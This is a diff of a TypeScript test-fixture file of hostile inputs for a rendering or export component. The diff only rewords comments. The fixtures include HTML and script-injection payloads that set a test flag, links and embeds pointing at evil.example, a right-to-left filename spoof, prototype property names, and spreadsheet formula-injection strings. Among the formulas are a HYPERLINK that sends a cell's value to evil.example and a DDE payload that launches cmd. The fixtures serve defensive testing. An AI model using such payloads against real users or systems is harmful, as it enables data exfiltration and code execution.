@@ -1,9 +1,9 @@
-/** What the scenario `hostile` puts into an answer: everything that a text, an address, a key or a number could try. */
+/** The values of the scenario `hostile`: attacks through a text, an address, a key or a number. */
 
-/** Sets a flag that tests look for. */
+/** Sets a flag that tests check. */
 const RUN = 'globalThis.__hostile=true'
 
-/** The only host of these addresses that a browser may ask, and for pictures alone. */
+/** The only host among these addresses that a browser may load from, and only pictures. */
 const PICTURES = 'https://pictures.hostile.example'
 
 export const ADDRESSES = [
@@ -28,10 +28,10 @@ export const HTML = `<p onclick="${RUN}" style="position:fixed;inset:0">Soft <b>
 <details open ontoggle="${RUN}"><summary>More</summary></details><dialog open>Your session ended</dialog><video autoplay src="//evil.example/v" onloadstart="${RUN}"></video><object data="//evil.example/o"></object><embed src="//evil.example/e">
 <noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript><a href="https://evil.example/" target="_top" style="inset:0">more</a></p>`
 
-/** Markup, direction marks, a null character, a template, a family of four, half a surrogate pair. */
+/** Markup, direction marks, a null character, a template, a family emoji and half a surrogate pair. */
 export const TEXT = `<img src=x onerror="${RUN}"><script>${RUN}</script>\u202E\u2066fdp.exe\u0000{{7*7}}👨‍👩‍👧‍👦\uD800`
 
-/** What a spreadsheet would take for a formula. */
+/** Texts that a spreadsheet would read as formulas. */
 export const FORMULAS = [
   '=HYPERLINK("https://evil.example/?"&A1,"open")',
   "+1+cmd|' /C calc'!A0",
@@ -41,15 +41,15 @@ export const FORMULAS = [
   '\r=1+1',
 ] as const
 
-/** Names that every object has already. */
+/** Names of properties that every object inherits. */
 export const INHERITED = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'] as const
 
-/** 100,000 characters without a place to break. */
+/** 100,000 characters without a line-break opportunity. */
 export const ENDLESS = 'Überlang'.repeat(12_500)
 
 const RAW = '\u0007raw:'
 
-/** A number that JSON can write and a double can't hold: a text until `writeRawNumbers` has seen it. */
+/** A number that is valid JSON but exceeds a double: a text until `writeRawNumbers` replaces it. */
 export const rawNumber = (digits: string): string => RAW + digits
 
 const RAW_IN_JSON = new RegExp(
